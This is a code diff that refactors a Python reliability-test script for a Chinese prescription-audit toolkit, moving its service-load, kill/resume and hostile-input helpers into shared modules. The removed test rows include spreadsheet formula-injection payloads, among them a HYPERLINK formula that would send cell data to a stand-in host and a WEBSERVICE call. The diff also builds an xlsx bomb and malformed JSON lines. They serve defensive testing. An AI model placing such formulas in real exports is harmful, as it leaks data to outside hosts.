@@ -13,82 +13,47 @@ Usage:
 ``--only hostile`` (issue 16: formula injection, an xlsx bomb, 20,000 rows under one 处方号, unchecked
 lines, decimal commas, a reappearing 处方号, JSONL and extract lines that used to abort, and the service's
 limits, decisions, Host allow-list, paging and FHIR checks) writes its own section of RELIABILITY.md.
+
+The kill/resume and service checks and their harness are in toolkit.evaluation.reliability (the
+integration tests run them small); the hostile inputs are built by toolkit.evaluation.hostile, as in
+the unit tests.
 """
 
 from __future__ import annotations
 
 import argparse
-import contextlib
 import csv
 import json
 import os
 import platform
 import random
 import resource
-import signal
-import socket
 import subprocess
 import sys
 import tempfile
 import threading
 import time
 import wave
-from collections.abc import Callable, Iterator
-from dataclasses import dataclass, field
+from collections.abc import Iterator
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
+from toolkit.evaluation import hostile
+from toolkit.evaluation.bench_data import HEADER, generate
+from toolkit.evaluation.reliability import (
+    CASE_BLOCK,
+    CASE_OK,
+    CLINIC,
+    Check,
+    Server,
+    check_service,
+    free_port,
+    journal_rows,
+    kill_and_resume,
+)
+
 ROOT = Path(__file__).resolve().parents[1]
-sys.path.insert(0, str(ROOT / "eval" / "bench"))
-from bench_audit import HEADER, generate  # noqa: E402
-
-CLINIC = [sys.executable, "-m", "toolkit.cli.main"]
-
-
-@dataclass
-class Check:
-    """One row of the table."""
-
-    area: str
-    check: str
-    size: str
-    result: str
-    ok: bool
-    numbers: dict[str, Any] = field(default_factory=dict)
-
-
-# --------------------------------------------------------------------------- helpers
-
-
-def _journal_rows(path: Path) -> list[tuple[str, int, str]]:
-    out = []
-    with path.open(encoding="utf-8") as fh:
-        for line in fh:
-            case = json.loads(line)
-            out.extend((case["id"], r["line"], r["status"]) for r in case["rows"])
-    return out
-
-
-def _rss_kib(pid: int) -> int:
-    with contextlib.suppress(OSError):
-        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
-            if line.startswith("VmRSS:"):
-                return int(line.split()[1])
-    return 0
-
-
-def _free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return int(s.getsockname()[1])
-
-
-def _kill_group(proc: subprocess.Popen[Any]) -> None:
-    """SIGKILL a process we started in its own session, with the workers it forked."""
-    with contextlib.suppress(ProcessLookupError):
-        os.killpg(proc.pid, signal.SIGKILL)
-    proc.wait(timeout=30)
 
 
 # --------------------------------------------------------------------------- (b) malformed files
@@ -155,7 +120,7 @@ def check_files(work: Path, lines: int, big_gb: float) -> list[Check]:
         except InputError as exc:
             out.append(Check("files", name, what, f"refused: {str(exc)[:90]}", False))
             return
-        rows = _journal_rows(work / "out.jsonl")
+        rows = journal_rows(work / "out.jsonl")
         lines_seen = sorted(r[1] for r in rows)
         complete = len(lines_seen) == expect_rows and len(set(lines_seen)) == expect_rows
         errors = sum(r[2] == "error" for r in rows)
@@ -227,16 +192,9 @@ def check_files(work: Path, lines: int, big_gb: float) -> list[Check]:
                 )
             )
     # truncated Excel
-    import openpyxl
-
-    wb = openpyxl.Workbook(write_only=True)
-    ws = wb.create_sheet()
-    for line in text.decode("utf-8").splitlines()[:20_001]:
-        ws.append(next(csv.reader([line])))
-    full = work / "full.xlsx"
-    wb.save(full)
-    cut = work / "cut.xlsx"
-    cut.write_bytes(full.read_bytes()[: full.stat().st_size // 2])
+    lines_xl = (next(csv.reader([line])) for line in text.decode("utf-8").splitlines()[:20_001])
+    full = hostile.write_streamed_xlsx(work / "full.xlsx", lines_xl)
+    cut = hostile.cut_in_half(full, work / "cut.xlsx")
     t = time.perf_counter()
     try:
         run_batch(cut, work / "out.jsonl", "jsonl", options=BatchOptions(workers=1))
@@ -282,295 +240,6 @@ def check_files(work: Path, lines: int, big_gb: float) -> list[Check]:
             )
         )
         big.unlink()
-    return out
-
-
-# --------------------------------------------------------------------------- (c) kill and resume
-
-
-def kill_and_resume(work: Path, lines: int, kill_after: float, workers: int = 2) -> Check:
-    """Run ``clinic audit`` on ``lines`` lines, SIGKILL it mid-run, resume, compare with an uninterrupted run."""
-    src = work / "big.csv"
-    if not src.exists():
-        generate(src, lines)
-    ref, out = work / "ref.jsonl", work / "out.jsonl"
-    for p in (ref, out):
-        p.unlink(missing_ok=True)
-    cmd = [*CLINIC, "audit", str(src), "--workers", str(workers), "--no-progress"]
-    t = time.perf_counter()
-    subprocess.run([*cmd, "-o", str(ref)], check=True, cwd=ROOT, capture_output=True, timeout=7200)
-    ref_s = time.perf_counter() - t
-    proc = subprocess.Popen(
-        [*cmd, "-o", str(out)],
-        cwd=ROOT,
-        stdout=subprocess.DEVNULL,
-        stderr=subprocess.DEVNULL,
-        start_new_session=True,
-    )
-    t_start = time.perf_counter()
-    if kill_after > 0:
-        time.sleep(kill_after)
-    else:  # kill once about a tenth of the cases are written: surely mid-run, on a fast or a slow machine
-        while (
-            proc.poll() is None
-            and time.perf_counter() - t_start < 600
-            and (not out.exists() or out.stat().st_size < ref.stat().st_size // 10)
-        ):
-            time.sleep(0.05)
-    kill_after = time.perf_counter() - t_start
-    alive = proc.poll() is None
-    _kill_group(proc)
-    partial = out.read_bytes()
-    torn = bool(partial) and not partial.endswith(b"\n")
-    done_before = partial.count(b"\n")
-    t = time.perf_counter()
-    subprocess.run(
-        [*cmd, "-o", str(out), "--resume"], check=True, cwd=ROOT, capture_output=True, timeout=7200
-    )
-    resume_s = time.perf_counter() - t
-    a, b = _journal_rows(ref), _journal_rows(out)
-    identical = ref.read_bytes() == out.read_bytes()
-    lines_out = [r[1] for r in b]
-    no_dupes = len(lines_out) == len(set(lines_out))
-    ok = alive and identical and no_dupes and len(b) == lines
-    return Check(
-        "kill",
-        "SIGKILL mid-run, then --resume",
-        f"{lines:,} lines, workers={workers}",
-        f"killed after {kill_after:.1f}s with {done_before:,} cases written (torn last line: {torn}); "
-        f"resumed in {resume_s:.0f}s; {len(b):,}/{lines:,} rows, duplicates: {len(lines_out) - len(set(lines_out))}"
-        f", byte-identical to the uninterrupted run ({ref_s:.0f}s): {identical}",
-        ok,
-        {
-            "cases_before_kill": done_before,
-            "rows": len(b),
-            "identical": identical,
-            "uninterrupted_s": ref_s,
-            "resume_s": resume_s,
-            "ref_rows": len(a),
-        },
-    )
-
-
-# --------------------------------------------------------------------------- (d) service
-
-CASE_BLOCK = {
-    "id": "X",
-    "patient": {
-        "age": 72,
-        "sex": "F",
-        "allergies": ["青霉素"],
-        "diagnoses": [{"name": "急性支气管炎", "icd10": "J20.9"}, {"name": "2型糖尿病", "icd10": "E11.9"}],
-        "labs": {"egfr": 25},
-    },
-    "prescription": {
-        "items": [
-            {
-                "drug": "阿莫西林胶囊",
-                "dose": 0.5,
-                "unit": "g",
-                "frequency": "tid",
-                "route": "口服",
-                "days": 5,
-            },
-            {"drug": "二甲双胍片", "dose": 0.5, "unit": "g", "frequency": "tid", "route": "口服", "days": 28},
-        ]
-    },
-}
-CASE_OK = {
-    "id": "Y",
-    "patient": {"age": 50, "sex": "M", "diagnoses": [{"name": "原发性高血压", "icd10": "I10"}]},
-    "prescription": {
-        "items": [
-            {"drug": "缬沙坦胶囊", "dose": 80, "unit": "mg", "frequency": "qd", "route": "口服", "days": 28}
-        ]
-    },
-}
-
-
-class Server:
-    """``clinic serve`` on 127.0.0.1 with a SQLite file, started and killed by us."""
-
-    def __init__(self, db: Path, port: int):
-        self.db, self.port = db, port
-        self.url = f"http://127.0.0.1:{port}"
-        self.proc: subprocess.Popen[Any] | None = None
-
-    def start(self, timeout: float = 120) -> float:
-        import httpx
-
-        t = time.perf_counter()
-        self.proc = subprocess.Popen(
-            [
-                *CLINIC,
-                "serve",
-                "--host",
-                "127.0.0.1",
-                "--port",
-                str(self.port),
-                "--db",
-                f"sqlite:///{self.db}",
-            ],
-            cwd=ROOT,
-            stdout=subprocess.DEVNULL,
-            stderr=subprocess.DEVNULL,
-            start_new_session=True,
-        )
-        while time.perf_counter() - t < timeout:
-            if self.proc.poll() is not None:
-                raise RuntimeError("clinic serve exited at start-up")
-            with contextlib.suppress(httpx.HTTPError):
-                if httpx.get(self.url + "/healthz", timeout=2).status_code == 200:
-                    return time.perf_counter() - t
-            time.sleep(0.2)
-        raise RuntimeError("clinic serve did not answer /healthz")
-
-    def kill(self) -> None:
-        if self.proc is not None:
-            _kill_group(self.proc)
-            self.proc = None
-
-    @property
-    def rss_kib(self) -> int:
-        return _rss_kib(self.proc.pid) if self.proc else 0
-
-
-def _load(
-    url: str,
-    seconds: float,
-    connections: int,
-    max_requests: int,
-    body: Callable[[int], tuple[str, dict[str, Any]]],
-) -> dict[str, Any]:
-    """``connections`` threads, each with one keep-alive connection, until the time or request budget ends."""
-    import httpx
-
-    lock = threading.Lock()
-    stats: dict[str, Any] = {"ok": 0, "errors": 0, "latencies": [], "error_kinds": {}}
-    counter = iter(range(max_requests))
-    deadline = time.perf_counter() + seconds
-
-    def worker() -> None:
-        with httpx.Client(base_url=url, timeout=30) as client:
-            while time.perf_counter() < deadline:
-                with lock:
-                    i = next(counter, None)
-                if i is None:
-                    return
-                path, payload = body(i)
-                t = time.perf_counter()
-                try:
-                    r = client.post(path, json=payload)
-                    good = r.status_code < 400
-                    kind = str(r.status_code)
-                except httpx.HTTPError as exc:
-                    good, kind = False, type(exc).__name__
-                with lock:
-                    stats["latencies"].append(time.perf_counter() - t)
-                    if good:
-                        stats["ok"] += 1
-                    else:
-                        stats["errors"] += 1
-                        stats["error_kinds"][kind] = stats["error_kinds"].get(kind, 0) + 1
-
-    threads = [threading.Thread(target=worker) for _ in range(connections)]
-    for th in threads:
-        th.start()
-    for th in threads:
-        th.join(timeout=seconds + 120)
-    lat = sorted(stats.pop("latencies")) or [0.0]
-    stats["p50_ms"] = lat[len(lat) // 2] * 1000
-    stats["p99_ms"] = lat[int(len(lat) * 0.99) - 1 if len(lat) > 1 else 0] * 1000
-    return stats
-
-
-def check_service(work: Path, seconds: float, connections: int, restart_seconds: float = 20) -> list[Check]:
-    import httpx
-
-    out: list[Check] = []
-    server = Server(work / "clinic.db", _free_port())
-    start_s = server.start()
-    try:
-        for _ in range(20):  # warm up
-            httpx.post(server.url + "/v1/audit", json=CASE_OK, timeout=30)
-        rss0 = server.rss_kib
-        cases = [CASE_OK, CASE_BLOCK]
-
-        def audit_body(i: int) -> tuple[str, dict[str, Any]]:
-            return "/v1/audit", {**cases[i % 2], "id": f"LOAD-{i}"}
-
-        s = _load(server.url, seconds, connections, 2_000_000, audit_body)
-        rss1 = server.rss_kib
-        total = s["ok"] + s["errors"]
-        out.append(
-            Check(
-                "service",
-                f"{seconds:.0f} s load, {connections} connections, POST /v1/audit",
-                f"{total:,} requests",
-                f"{s['errors']} errors ({s['error_kinds']}); {total / seconds:,.0f} req/s;"
-                f" p50 {s['p50_ms']:.0f} ms p99 {s['p99_ms']:.0f} ms; server RSS {rss0 / 1024:.0f} → "
-                f"{rss1 / 1024:.0f} MiB",
-                s["errors"] == 0 and rss1 - rss0 < 200 * 1024,
-                {**s, "rss_before_kib": rss0, "rss_after_kib": rss1, "startup_s": start_s},
-            )
-        )
-        # decisions while the server is killed and started again; clients retry, nothing acknowledged is lost
-        acked: list[tuple[str, str]] = []
-        retries = {"n": 0}
-        rejected = {"n": 0}
-        lock = threading.Lock()
-        stop = time.perf_counter() + restart_seconds
-
-        def client_loop(k: int) -> None:
-            with httpx.Client(base_url=server.url, timeout=10) as c:
-                i = 0
-                while time.perf_counter() < stop and i < 5000:
-                    i += 1
-                    for _attempt in range(60):
-                        try:
-                            r = c.post("/v1/audit", json={**CASE_BLOCK, "id": f"R-{k}-{i}"})
-                            audit_id = r.headers["x-audit-id"]
-                            d = c.post(
-                                f"/v1/audits/{audit_id}/decisions",
-                                json={"decision": "return", "pharmacist": f"药师{k}", "reason": "剂量需调整"},
-                            )
-                            with lock:
-                                if d.status_code == 201:
-                                    acked.append((audit_id, str(d.json().get("id", ""))))
-                                else:
-                                    rejected["n"] += 1
-                            break
-                        except (httpx.HTTPError, KeyError):
-                            with lock:
-                                retries["n"] += 1
-                            time.sleep(0.5)
-
-        threads = [threading.Thread(target=client_loop, args=(k,)) for k in range(connections)]
-        for th in threads:
-            th.start()
-        time.sleep(restart_seconds / 2)
-        server.kill()
-        restart_s = server.start()
-        for th in threads:
-            th.join(timeout=restart_seconds + 180)
-        missing = 0
-        with httpx.Client(base_url=server.url, timeout=30) as c:
-            for audit_id, decision_id in acked:
-                got = c.get(f"/v1/audits/{audit_id}/decisions").json()["decisions"]
-                missing += not any(str(d.get("id", "")) == decision_id for d in got)
-        out.append(
-            Check(
-                "service",
-                "SIGKILL + restart mid-load, clients retry; decisions read back",
-                f"{len(acked):,} decisions acknowledged",
-                f"{missing} lost; {rejected['n']} refused; {retries['n']} client retries while down; "
-                f"restart took {restart_s:.1f}s",
-                missing == 0 and rejected["n"] == 0 and len(acked) > 0,
-                {"acked": len(acked), "lost": missing, "rejected": rejected["n"], "retries": retries["n"]},
-            )
-        )
-    finally:
-        server.kill()
     return out
 
 
@@ -695,71 +364,6 @@ def check_audio(work: Path, hours: float, timeout: float = 900) -> list[Check]:
 
 # --------------------------------------------------------------------------- (e) hostile input (issue 16)
 
-_HOSTILE_HEADER = [
-    "处方号",
-    "患者",
-    "年龄",
-    "性别",
-    "诊断",
-    "药品名称",
-    "规格",
-    "单次剂量",
-    "剂量单位",
-    "频次",
-    "给药途径",
-    "天数",
-    "医生",
-    "科室",
-]
-
-
-def _hrow(
-    rx: str,
-    drug: str = "苯磺酸氨氯地平片",
-    dose: str = "5",
-    unit: str = "mg",
-    days: str = "28",
-    doctor: str = "王医生",
-    dept: str = "全科",
-) -> list[str]:
-    return [
-        rx,
-        "P1",
-        "68",
-        "男",
-        "原发性高血压(I10)",
-        drug,
-        "5mg",
-        dose,
-        unit,
-        "qd",
-        "口服",
-        days,
-        doctor,
-        dept,
-    ]
-
-
-def _write_hostile_csv(path: Path, rows: list[list[str]]) -> Path:
-    with path.open("w", encoding="utf-8", newline="") as fh:
-        w = csv.writer(fh)
-        w.writerow(_HOSTILE_HEADER)
-        w.writerows(rows)
-    return path
-
-
-def _formula_cells(values: list[Any]) -> list[Any]:
-    def live(v: Any) -> bool:
-        if not isinstance(v, str) or not v or v[0] not in "=+-@\t\r":
-            return False
-        try:
-            float(v)
-            return False
-        except ValueError:
-            return True
-
-    return [v for v in values if live(v)]
-
 
 def check_hostile(work: Path) -> list[Check]:
     """Each attack of issue 16 as a row: the input, what came back, and whether that is acceptable."""
@@ -772,13 +376,7 @@ def check_hostile(work: Path) -> list[Check]:
         return [json.loads(x) for x in path.read_text(encoding="utf-8").splitlines()]
 
     # formula injection in every report cell
-    src = _write_hostile_csv(
-        work / "formula.csv",
-        [
-            _hrow("=1+1", drug='=HYPERLINK("http://x/?"&A1,"click")', doctor="@SUM(A1)", dept="+cmd"),
-            _hrow("-2+3", drug="代文", dose="abc", doctor='=WEBSERVICE("http://x")', dept="-1+1"),
-        ],
-    )
+    src = hostile.write_his_csv(work / "formula.csv", hostile.formula_rows_short())
     run_batch(src, work / "f.csv", "csv", options=opts)
     with (work / "f.csv").open(encoding="utf-8-sig", newline="") as fh:
         csv_cells = [c for r in csv.reader(fh) for c in r]
@@ -788,8 +386,8 @@ def check_hostile(work: Path) -> list[Check]:
     wb = openpyxl.load_workbook(work / "f.xlsx")
     xl = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
     live = (
-        _formula_cells(csv_cells)
-        + _formula_cells([c.value for c in xl])
+        [v for v in csv_cells if hostile.is_live_formula(v)]
+        + [c.value for c in xl if hostile.is_live_formula(c.value)]
         + [c for c in xl if c.data_type == "f"]
     )
     out.append(
@@ -802,13 +400,7 @@ def check_hostile(work: Path) -> list[Check]:
         )
     )
     # xlsx bomb: a cell at XFD1048576, in a child process capped at 2 GiB of address space
-    wbb = openpyxl.Workbook()
-    ws = wbb.active
-    ws.append(_HOSTILE_HEADER)
-    ws.append(_hrow("0001"))
-    ws["XFD1048576"] = "x"
-    bomb = work / "bomb.xlsx"
-    wbb.save(bomb)
+    bomb = hostile.write_xlsx_bomb(work / "bomb.xlsx")
     code = (
         "import resource; resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30));"
         "from toolkit.batch import run_batch, BatchOptions;"
@@ -831,13 +423,8 @@ def check_hostile(work: Path) -> list[Check]:
     # a big workbook: streamed (openpyxl read-only), memory bounded; the same sheet loaded whole for contrast
     base = work / "xl_base.csv"
     generate(base, 100_000)
-    wbx = openpyxl.Workbook(write_only=True)
-    wsx = wbx.create_sheet()
     with base.open(encoding="utf-8") as fh:
-        for r in csv.reader(fh):
-            wsx.append(r)
-    big_xlsx = work / "big.xlsx"
-    wbx.save(big_xlsx)
+        big_xlsx = hostile.write_streamed_xlsx(work / "big.xlsx", csv.reader(fh))
     probe = (
         "import sys, time; from pathlib import Path; import toolkit.batch.readers as R\n"
         "kib = lambda k: next(int(x.split()[1]) for x in Path('/proc/self/status').read_text().splitlines()"
@@ -869,8 +456,8 @@ def check_hostile(work: Path) -> list[Check]:
         )
     )
     # 20,000 rows under one 处方号: one error row naming the limit, the batch goes on
-    rows = [_hrow("0001")] + [_hrow("9999", drug="阿司匹林肠溶片", dose="100")] * 20_000 + [_hrow("0002")]
-    src = _write_hostile_csv(work / "one_id.csv", rows)
+    rows = hostile.rows_sharing_one_id(20_000, "9999", drug="阿司匹林肠溶片", dose="100", after="0002")
+    src = hostile.write_his_csv(work / "one_id.csv", rows)
     t = time.perf_counter()
     s = run_batch(src, work / "one_id.jsonl", "jsonl", options=opts)
     lines = journal(work / "one_id.jsonl")
@@ -886,16 +473,16 @@ def check_hostile(work: Path) -> list[Check]:
         )
     )
     # lines the engine could not check, and a prescription whose only line is unreadable
-    src = _write_hostile_csv(
+    src = hostile.write_his_csv(
         work / "unchecked.csv",
         [
-            _hrow("0001", drug="某某未知药片"),
-            _hrow("0002", dose="-5"),
-            _hrow("0003", dose="0"),
-            _hrow("0004", days="0"),
-            _hrow("0005", unit="kg"),
-            _hrow("0006", dose="abc"),
-            _hrow("0007"),
+            hostile.his_row("0001", drug="某某未知药片"),
+            hostile.his_row("0002", dose="-5"),
+            hostile.his_row("0003", dose="0"),
+            hostile.his_row("0004", days="0"),
+            hostile.his_row("0005", unit="kg"),
+            hostile.his_row("0006", dose="abc"),
+            hostile.his_row("0007"),
         ],
     )
     s = run_batch(src, work / "unchecked.html", "html", options=opts)
@@ -912,13 +499,13 @@ def check_hostile(work: Path) -> list[Check]:
         )
     )
     # decimal comma and a reappearing 处方号
-    src = _write_hostile_csv(
+    src = hostile.write_his_csv(
         work / "misread.csv",
         [
-            _hrow("0001", drug="华法林钠片", dose="2,5"),
-            _hrow("0002", drug="华法林钠片", dose="2.5"),
-            _hrow("0003"),
-            _hrow("0002", drug="阿司匹林肠溶片", dose="100"),
+            hostile.his_row("0001", drug="华法林钠片", dose="2,5"),
+            hostile.his_row("0002", drug="华法林钠片", dose="2.5"),
+            hostile.his_row("0003"),
+            hostile.his_row("0002", drug="阿司匹林肠溶片", dose="100"),
         ],
     )
     run_batch(src, work / "misread.jsonl", "jsonl", options=opts)
@@ -941,29 +528,14 @@ def check_hostile(work: Path) -> list[Check]:
         )
     )
     # JSONL lines that used to abort the batch
-    good = {
-        "id": "A",
-        "patient": {"age": 60, "diagnoses": [{"name": "高血压", "icd10": "I10"}]},
-        "prescription": {
-            "items": [
-                {
-                    "drug": "苯磺酸氨氯地平片",
-                    "dose": 5,
-                    "unit": "mg",
-                    "frequency": "qd",
-                    "route": "口服",
-                    "days": 28,
-                }
-            ]
-        },
-    }
+    good = hostile.minimal_case("A")
     src = work / "hostile.jsonl"
     src.write_text(
         "\n".join(
             [
                 json.dumps(good),
-                '{"id": "D", "x": ' + "[" * 5000 + "]" * 5000 + "}",
-                json.dumps(good).replace('"A"', '"\\ud800"'),
+                hostile.deeply_nested_line("D"),
+                hostile.lone_surrogate_id_line(good),
                 json.dumps({**good, "id": "Z"}),
             ]
         )
@@ -1004,9 +576,9 @@ def check_hostile(work: Path) -> list[Check]:
     src.write_text(
         "\n".join(
             [
-                '{"id": "\\ud800", "text": "头痛三天"}',
-                '{"id": "d", "text": ' + "[" * 5000 + "]" * 5000 + "}",
-                json.dumps({"id": "n", "text": "血压" + "9" * 19_999 + "mmHg"}),
+                hostile.surrogate_text_line(),
+                hostile.deeply_nested_line("d", key="text"),
+                hostile.long_number_line("n"),
             ]
         )
         + "\n",
@@ -1041,11 +613,11 @@ def _check_hostile_service(work: Path) -> list[Check]:
     import httpx
 
     out: list[Check] = []
-    server = Server(work / "hostile.db", _free_port())
+    server = Server(work / "hostile.db", free_port())
     server.start()
     try:
         url = server.url
-        big = {**CASE_OK, "id": "BIG", "prescription": {"items": CASE_OK["prescription"]["items"] * 3000}}
+        big = hostile.many_items(CASE_OK, 3000, case_id="BIG")
         body = json.dumps(big).encode()
         health: list[float] = []
         done = threading.Event()
